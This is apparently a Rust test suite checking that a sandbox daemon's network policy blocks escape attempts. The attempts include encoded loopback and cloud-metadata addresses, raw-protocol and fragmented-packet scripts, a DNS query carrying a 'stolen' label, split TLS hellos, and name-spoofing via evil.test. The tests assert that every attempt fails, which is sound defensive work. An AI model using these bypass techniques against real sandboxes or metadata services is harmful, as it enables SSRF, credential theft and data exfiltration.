//! Ways around a policy, tried by a program inside. `docs/design/network-attacks.md` lists all of them and their tests.

use std::{
    net::UdpSocket,
    sync::{
        Arc,
        atomic::{AtomicUsize, Ordering},
    },
    thread,
};

use super::{
    faults::packets,
    policy::{KEEP_OPEN, Talk},
    servers::{echo, http, serve},
    services::{WEB, trust, web},
    world::{curl, in_a_world, log},
    zone::Zone,
};
use crate::harness::{Daemon, until};

#[test]
fn no_form_of_an_address_leads_to_the_host_its_neighbours_or_metadata() {
    in_a_world(|| {
        let zone = Zone::start("metadata.google.internal 93.184.216.34");
        // Who listens to everything is at all of them: the host by its public addresses, too.
        serve("[::]:80", http("server"));
        let daemon = Daemon::start();
        daemon.create("all", &["--network", "all"]);
        daemon.create("public", &["--network", "public"]);
        // This is how the host looks from itself.
        assert!(std::net::TcpStream::connect("93.184.216.5:80").is_ok());
        for address in [
            // Inside, these are the sandbox itself, where nobody listens.
            "0",
            "127.1",
            "0x7f.1",
            "2130706433",
            "0177.0.0.1",
            "[::]",
            "[::1]",
            "[::ffff:127.0.0.1]",
            // The host: by its name, by its public addresses, by one written as another.
            "169.254.1.2",
            "93.184.216.5",
            "[2606:4700::5]",
            "[::ffff:93.184.216.5]",
            "[64:ff9b::5db8:d805]",
            // Metadata services, one of them with a public address.
            "169.254.169.254",
            "0xa9fea9fe",
            "168.63.129.16",
            "100.100.100.200",
            "[fd00:ec2::254]",
            "[::ffff:169.254.169.254]",
            "[64:ff9b::a9fe:a9fe]",
            "[64:ff9b:1::a9fe:a9fe]",
            "[2002:a9fe:a9fe::1]",
        ] {
            for name in ["all", "public"] {
                assert_eq!(curl(&daemon, name, &format!("http://{address}/")), "exit 7", "{name}: {address}");
            }
        }
        // A neighbour on the host's own link, by an address of the internet.
        assert_eq!(curl(&daemon, "public", "http://[2606:4700:5::7]/"), "exit 7");
        assert!(curl(&daemon, "public", "http://93.184.216.35/").contains("heard"), "others are reached");
        assert!(curl(&daemon, "all", "http://[2606:4700:5::7]/").contains("heard"));
        assert_eq!(curl(&daemon, "all", "http://metadata.google.internal/"), "exit 6");
        assert_eq!(zone.asked(), Vec::<String>::new());
    });
}

/// Sends by protocols that carry no connection.
const OTHER_PROTOCOLS: &str = "
import socket
for family, to in ((socket.AF_INET, '93.184.216.34'), (socket.AF_INET6, '2606:4700::1')):
    for kind in (socket.SOCK_DGRAM, socket.SOCK_RAW, socket.SOCK_STREAM, socket.SOCK_SEQPACKET):
        for protocol in (1, 2, 4, 33, 41, 47, 58, 132, 136, 255):
            try:
                s = socket.socket(family, kind, protocol)
                s.settimeout(0.2)
                s.connect((to, 7))
                s.send(b'\\x08\\0\\0\\0\\0\\1\\0\\1')
            except OSError: pass
# Larger than any packet, so that it comes in fragments; and with options.
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.setsockopt(socket.SOL_IP, socket.IP_TTL, 1)
for work in (lambda: s.setsockopt(socket.SOL_IP, socket.IP_OPTIONS, b'\\x83\\x07\\x04\\x5d\\xb8\\xd8\\x22\\0'), lambda: 0):
    try:
        work()
        s.sendto(b'x' * 60000, ('93.184.216.34', 9))
    except OSError: pass
print('tried')
";

#[test]
fn other_protocols_and_other_resolvers_carry_nothing_out() {
    in_a_world(|| {
        let _zone = Zone::start("api.example 93.184.216.34");
        serve("8.8.8.8:853", echo);
        let heard = Arc::<AtomicUsize>::default();
        for at in ["8.8.8.8:5353", "93.184.216.34:443", "8.8.8.8:853"] {
            let (socket, heard) = (UdpSocket::bind(at).unwrap(), Arc::clone(&heard));
            thread::spawn(move || {
                while socket.recv_from(&mut [0; 2000]).is_ok() {
                    heard.fetch_add(1, Ordering::SeqCst);
                }
            });
        }
        let daemon = Daemon::start();
        daemon.create("public", &["--network", "public"]);
        let before = packets();
        assert_eq!(
            daemon.sh_ok(
                "public",
                &format!("cat > /tmp/a.py <<'END'\n{OTHER_PROTOCOLS}END\npython3 /tmp/a.py")
            ),
            "tried"
        );
        // DNS elsewhere, over TLS, and QUIC: refused at once.
        assert_eq!(curl(&daemon, "public", "https://8.8.8.8:853/"), "exit 7");
        daemon.sh("public", "dig +tries=1 +timeout=5 -p 5353 @8.8.8.8 stolen.api.example");
        for (address, port) in [("93.184.216.34", 443), ("8.8.8.8", 853)] {
            let send = format!(
                "import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\ns.connect(('{address}', {port}))\n\
                 s.settimeout(60)\ns.send(b'x')\ntry: s.recv(1)\nexcept ConnectionRefusedError: print('refused')"
            );
            assert_eq!(daemon.ok(["exec", "public", "python3", "-c", &send]), "refused\n");
        }
        assert_eq!((packets(), heard.load(Ordering::SeqCst)), (before, 0));
    });
}

/// Begins TLS in an unusual way, and says whether the handshake came to its end.
const UNUSUAL_HELLOS: &str = r"
import socket, ssl

def shake(cut):
    context = ssl.create_default_context(cafile='/tmp/ca.pem')
    heard, said = ssl.MemoryBIO(), ssl.MemoryBIO()
    tls = context.wrap_bio(heard, said, server_hostname='web.example')
    s = socket.create_connection(('web.example', 443), 60)
    s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    while True:
        try: tls.do_handshake(); return 'shaken'
        except ssl.SSLWantReadError: pass
        for piece in cut(said.read()): s.sendall(piece)
        cut = lambda whole: [whole]
        heard.write(s.recv(65536))

def records(hello, size):
    parts = [hello[at:at + size] for at in range(5, len(hello), size)]
    return [b'\x16\x03\x01' + len(part).to_bytes(2, 'big') + part for part in parts]

print(shake(lambda hello: [hello]))
print(shake(lambda hello: [bytes([byte]) for byte in hello]))
print(shake(lambda hello: records(hello, 48)))
";

#[test]
fn a_name_cannot_be_borrowed() {
    in_a_world(|| {
        let zone = Zone::start(&format!("web.example {WEB}, evil.test {WEB}"));
        web();
        serve("93.184.216.66:443", http("thief"));
        serve("93.184.216.66:80", http("thief"));
        let daemon = Daemon::start();
        daemon.create("lab", &["--network", "none", "--allow", "web.example"]);
        trust(&daemon, "lab");
        let hellos =
            daemon.sh_ok("lab", &format!("cat > /tmp/a.py <<'END'\n{UNUSUAL_HELLOS}END\npython3 /tmp/a.py"));
        assert_eq!(hellos, "shaken\nshaken\nshaken");
        let curl = |arguments: &str| curl(&daemon, "lab", &format!("--cacert /tmp/ca.pem {arguments}"));
        // The allowed name, at an address that is somebody else's.
        assert_eq!(curl("https://web.example/ --resolve web.example:443:93.184.216.66"), "exit 7");
        assert_eq!(curl("http://web.example/ --resolve web.example:80:93.184.216.66"), "exit 7");
        // Another name, at the allowed address.
        assert_eq!(curl(&format!("-k https://evil.test/ --resolve evil.test:443:{WEB}")), "exit 35");
        assert_eq!(curl(&format!("-k https://{WEB}/")), "exit 35");
        // A server that is allowed sends clients elsewhere: each step is decided anew.
        for (page, end) in [("away", "exit 6"), ("meta", "exit 7"), ("address", "exit 7")] {
            assert_eq!(curl(&format!("-L https://web.example/{page}")), end, "{page}");
        }
        // A later answer opens nothing in place of the earlier one: nobody asks twice for one connection.
        zone.add("web.example 10.1.2.3");
        assert_eq!(curl("https://web.example/ --resolve web.example:443:10.1.2.3"), "exit 7");
        assert!(curl("https://web.example/").contains("served by nginx"));
        assert!(!zone.asked().iter().any(|question| question.contains("evil")), "{:?}", zone.asked());
    });
}

#[test]
fn a_pause_or_a_fork_keeps_nothing_open() {
    in_a_world(|| {
        serve("93.184.216.34:7000", echo);
        let daemon = Daemon::start();
        daemon.create("lab", &["--network", "public"]);
        let mut talk = Talk::start(&daemon, "lab", KEEP_OPEN);
        assert_eq!(talk.next(), "open x");
        // Where nothing can be paused, nothing that runs can be forked either.
        let is_paused = daemon.output(["pause", "lab"]).status.success();
        daemon.ok(["network", "lab", "--deny", "93.184.216.34"]);
        if is_paused {
            daemon.ok(["resume", "lab"]);
        }
        assert_eq!(talk.next(), "ended ConnectionResetError");
        if !is_paused {
            return;
        }
        let fork = daemon.ok(["fork", "lab"]);
        assert_eq!(curl(&daemon, fork.trim(), "http://93.184.216.34:7000/"), "exit 7");
        until("the log of the fork is its own", || {
            log(&daemon, fork.trim()).iter().any(|line| line.starts_with("denied 93.184.216.34 7000"))
        });
    });
}
